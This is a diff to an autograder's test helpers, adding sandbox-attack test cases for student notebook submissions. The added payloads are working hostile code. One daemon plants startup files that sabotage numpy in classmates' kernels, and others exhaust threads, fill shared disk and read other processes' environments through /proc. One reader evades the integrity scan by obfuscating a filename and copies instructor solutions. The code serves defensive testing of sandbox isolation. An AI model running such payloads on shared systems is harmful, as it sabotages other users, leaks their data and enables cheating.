@@ -115,6 +115,37 @@ def _bytes(nb) -> bytes:
     return nbformat.writes(nb).encode("utf-8")
 
 
+def marked_notebook(marker: str) -> bytes:
+    """A small notebook whose only cell names where it came from (the same bytes on every
+    call: its cell id is fixed)."""
+    nb = nbformat.v4.new_notebook()
+    nb.cells.append(nbformat.v4.new_markdown_cell(f"submission of {marker}"))
+    nb.cells[0]["id"] = "marker"
+    return _bytes(nb)
+
+
+def run_grader(submissions: Path, out: Path, *options: str, timeout: int = 1200):
+    """``python -m autograder grade SUBMISSIONS --out OUT OPTIONS`` as an instructor runs it
+    (this interpreter, the repository's autograder); ``timeout``: a kill switch for a hung
+    run, not an assertion."""
+    import os
+    import subprocess
+    import sys
+
+    env = {**os.environ, "PYTHONPATH": str(ROOT),
+           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"}
+    return subprocess.run([sys.executable, "-m", "autograder", "grade", str(submissions),
+                           "--out", str(out), *options], cwd=ROOT, env=env,
+                          capture_output=True, text=True, timeout=timeout)
+
+
+def grading_course(assignments=(NEURON,)):
+    """The autograder's view of the course (masters, release) for these assignments."""
+    from autograder.course import Course as GradedCourse
+
+    return GradedCourse.load(ROOT, list(assignments))
+
+
 CHEAT_SOFTMAX = '''\
 import builtins
 import numpy
@@ -409,3 +440,270 @@ def flag_only_students(root: Path = ROOT) -> dict[str, object]:
 def read_json(path: Path):
     """Load a JSON file."""
     return json.loads(path.read_text(encoding="utf-8"))
+
+
+# ----------------------------------------------------------------------------------------------
+# Sandbox attacks (issue 15): graded in one slot (--jobs 1), in this order, with honest
+# classmates after each; every attack is a cell added at the end (no graded cell after it, so
+# the integrity scan costs the attacker nothing) except the master reader, which must get past
+# the scan to score at all.
+# ----------------------------------------------------------------------------------------------
+
+# Starts a process that outlives its kernel: fork, new session, fork again. The grandchild
+# names itself (so the test can look for it), then for 90 s plants an IPython startup file
+# that breaks numpy.dot into every other kernel's HOME it can find (from /proc/*/environ, or
+# guessed next to its own), so that a later classmate's kernel starts broken.
+_DAEMON = '''\
+import os
+import time
+
+
+def _detach(name, work):
+    """Run work() in a grandchild in its own session; the kernel goes on at once."""
+    child = os.fork()
+    if child:
+        os.waitpid(child, 0)
+        return
+    try:
+        os.setsid()
+        if os.fork():
+            os._exit(0)
+        with open("/proc/self/comm", "w") as handle:
+            handle.write(name)
+        os.closerange(3, 4096)
+        work()
+    finally:
+        os._exit(0)
+'''
+
+LINGERER = _DAEMON + '''
+
+def _homes():
+    """Other kernels' HOME folders: from their environment, or guessed from mine."""
+    mine = os.environ.get("HOME", "")
+    found = set()
+    for pid in os.listdir("/proc"):
+        try:
+            with open(f"/proc/{pid}/environ", "rb") as handle:
+                env = handle.read().split(b"\\0")
+        except OSError:
+            continue
+        for item in env:
+            if item.startswith(b"HOME="):
+                found.add(item[5:].decode())
+    work = os.path.dirname(os.path.dirname(mine))
+    for n in range(1, 60):
+        found.add(os.path.join(work, f"w-{n:04d}", "home"))
+    return {h for h in found if h and h != mine and os.path.isdir(h)}
+
+
+def _plant():
+    end = time.time() + 90
+    while time.time() < end:
+        for home in _homes():
+            startup = os.path.join(home, ".ipython", "profile_default", "startup")
+            try:
+                os.makedirs(startup, exist_ok=True)
+                with open(os.path.join(startup, "00-sbx.py"), "w") as handle:
+                    handle.write("import numpy\\nnumpy.dot = lambda *a, **k: 0.0\\n")
+            except OSError:
+                pass
+        time.sleep(0.05)
+
+
+_detach("sbx-lingerer", _plant)
+print("SBX-LINGERER started")
+'''
+
+# A leftover process that takes every thread the kernel's uid may have, and keeps them.
+EXHAUSTER = _DAEMON + '''
+import threading
+
+
+def _exhaust():
+    threading.stack_size(64 * 1024)
+    threads = 0
+    while threads < 100000:
+        try:
+            threading.Thread(target=time.sleep, args=(120,), daemon=True).start()
+        except Exception:
+            break
+        threads += 1
+    time.sleep(120)
+
+
+_detach("sbx-exhauster", _exhaust)
+print("SBX-EXHAUSTER started")
+'''
+
+# Fills every writable place outside the working folder it can find, with bytes and with
+# files, for at most a few seconds each, and says how much it got in.
+FILLER = '''\
+import json
+import os
+import time
+
+MiB = 2**20
+
+
+def _fill(folder, budget=512 * MiB, files=30000, seconds=2.5):
+    """Bytes it could write into one file there (the file is then deleted, to make room),
+    and small files it could create there (left in place)."""
+    written = made = 0
+    name = os.path.join(folder, "sbx-fill-bytes-" + folder.strip("/").replace("/", "-"))
+    end = time.time() + seconds
+    try:
+        with open(name, "wb") as handle:
+            block = b"x" * MiB
+            while written < budget and time.time() < end:
+                handle.write(block)
+                handle.flush()
+                written += MiB
+    except OSError:
+        pass
+    try:
+        os.remove(name)
+    except OSError:
+        pass
+    end = time.time() + seconds
+    here = os.path.join(folder, "sbx-fill-files-" + folder.strip("/").replace("/", "-"))
+    try:
+        os.makedirs(here, exist_ok=True)
+        while made < files and time.time() < end:
+            with open(os.path.join(here, str(made)), "w") as handle:
+                handle.write("x")
+            made += 1
+    except OSError:
+        pass
+    return {"bytes": written, "files": made}
+
+
+report = {place: _fill(place) for place in
+          ("/dev/shm", "/tmp", "/var/tmp", os.path.expanduser("~"))}
+print("SBX-FILL", json.dumps(report))
+'''
+
+# What this kernel can see of the grader and of classmates: processes (and whose), their
+# command lines and environments, other grading folders' specs and kernel specs, the template.
+SNOOPER = '''\
+import json
+import os
+
+me = os.getuid()
+seen = {"processes": 0, "foreign": 0, "cmdlines": 0, "environs": 0, "grader": 0,
+        "specs": 0, "kernel_specs": 0, "template": 0}
+for pid in os.listdir("/proc"):
+    if not pid.isdigit():
+        continue
+    seen["processes"] += 1
+    try:
+        owner = os.stat(f"/proc/{pid}").st_uid
+    except OSError:
+        continue
+    if owner == me:
+        continue
+    seen["foreign"] += 1
+    try:
+        with open(f"/proc/{pid}/cmdline", "rb") as handle:
+            cmdline = handle.read()
+        seen["cmdlines"] += bool(cmdline)
+        seen["grader"] += b"autograder" in cmdline or b"pytest" in cmdline
+    except OSError:
+        pass
+    try:
+        with open(f"/proc/{pid}/environ", "rb") as handle:
+            seen["environs"] += bool(handle.read())
+    except OSError:
+        pass
+here = os.getcwd().split(os.sep)
+for i in range(len(here), 1, -1):
+    base = os.sep.join(here[:i])
+    for n in range(1, 60):
+        for key, rel in (("specs", "spec.json"),
+                         ("kernel_specs", "jupyter/kernels/autograder-sandbox/kernel.json")):
+            try:
+                with open(os.path.join(base, f"w-{n:04d}", rel)) as handle:
+                    seen[key] += bool(handle.read())
+            except OSError:
+                pass
+    try:
+        with open(os.path.join(base, "template", "nbgrader_config.py")) as handle:
+            seen["template"] += bool(handle.read())
+    except OSError:
+        pass
+print("SBX-SNOOP", json.dumps(seen))
+'''
+
+# Added as the notebook's first cell of an untouched release: copies the solutions out of the
+# master that the grader keeps in its template course (found next to the working folder, never
+# named as such: the integrity scan looks for those names) into a module in HOME; every
+# solution cell imports it.
+MASTER_READER = '''\
+import json
+import os
+import sys
+
+_suffix = bytes([46, 105, 112, 121, 110, 98]).decode()
+_answers = []
+_here = os.getcwd().split(os.sep)
+for _i in range(len(_here), 1, -1):
+    _cells = None
+    for _source in ("source", "notebooks", "release"):
+        _path = os.path.join(os.sep.join(_here[:_i]), "template", _source, "@A@",
+                             "@NB@" + _suffix)
+        try:
+            with open(_path) as _handle:
+                _cells = json.load(_handle)["cells"]
+            break
+        except (OSError, ValueError):
+            continue
+    if _cells is None:
+        continue
+    for _cell in _cells:
+        _text = "".join(_cell["source"])
+        if "BEGIN SOLUTION" in _text:
+            _answers.append("\\n".join(line for line in _text.splitlines()
+                                       if "SOLUTION" not in line))
+    break
+_home = os.path.expanduser("~")
+with open(os.path.join(_home, "sbx_answers.py"), "w") as _handle:
+    _handle.write("import numpy as np\\n\\n" + "\\n\\n".join(_answers) + "\\n")
+sys.path.insert(0, _home)
+print("SBX-READER copied", len(_answers), "solutions")
+'''
+
+
+def sandbox_cases(root: Path = ROOT) -> list[Case]:
+    """The sandbox attacks of issue 15, each followed by an honest classmate, in grading order
+    (student ids sort in this order); graded with --jobs 1, so all run in the same slot."""
+    c = Course(NEURON, "neuron.ipynb", root)
+    top = c.max_score
+    cases = []
+
+    def honest(student):
+        return Case(student, {f"{student}_{NEURON}.ipynb": _bytes(c.solved())}, {NEURON: top},
+                    absent={"autograde-failed", "kernel-died", "integrity", "timeout"})
+
+    def attack(student, code, score=top, **kw):
+        nb = c.solved()
+        nb.cells.append(nbformat.v4.new_code_cell(code))
+        nb.cells[-1]["id"] = "attack"
+        return Case(student, {f"{student}_{NEURON}.ipynb": _bytes(nb)}, {NEURON: score}, **kw)
+
+    cases.append(attack("s1-lingerer", LINGERER))
+    cases.append(honest("s2-honest"))
+    cases.append(attack("s3-exhauster", EXHAUSTER))
+    cases.append(honest("s4-honest"))
+    cases.append(attack("s5-filler", FILLER))
+    cases.append(attack("s6-snooper", SNOOPER))
+    reader = copy.deepcopy(c.release)
+    for cell in reader.cells:
+        if _meta(cell).get("solution") and not _meta(cell).get("grade"):
+            cell.source = "from sbx_answers import *  # noqa: F403\n"
+    reader.cells.insert(0, nbformat.v4.new_code_cell(
+        MASTER_READER.replace("@A@", NEURON).replace("@NB@", "neuron")))
+    reader.cells[0]["id"] = "reader"
+    cases.append(Case("s7-master-reader", {f"s7-master-reader_{NEURON}.ipynb": _bytes(reader)},
+                      {NEURON: 0.0}))
+    cases.append(honest("s8-honest"))
+    return cases
